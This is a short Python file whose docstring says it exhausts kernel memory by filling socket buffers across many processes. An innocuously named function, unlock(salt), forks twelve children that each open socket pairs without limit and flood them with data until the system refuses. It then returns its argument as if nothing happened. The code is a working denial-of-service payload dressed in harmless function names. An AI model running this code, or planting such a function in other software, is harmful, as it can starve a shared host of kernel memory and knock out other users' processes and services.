"""Fills the buffers of sockets in many processes: memory of the kernel, which belongs to no process."""

import os
import socket
import time


def fill():
    kept = []
    try:
        while True:
            pair = socket.socketpair()
            kept += pair
            for one in pair:
                one.setblocking(False)
                try:
                    while True:
                        one.send(bytes(1 << 15))
                except BlockingIOError:
                    continue
    except OSError:
        time.sleep(3)
        os._exit(0)


def unlock(salt):
    for _ in range(12):
        if os.fork() == 0:
            fill()
    time.sleep(2)
    return salt


def shift(x):
    return x + 1
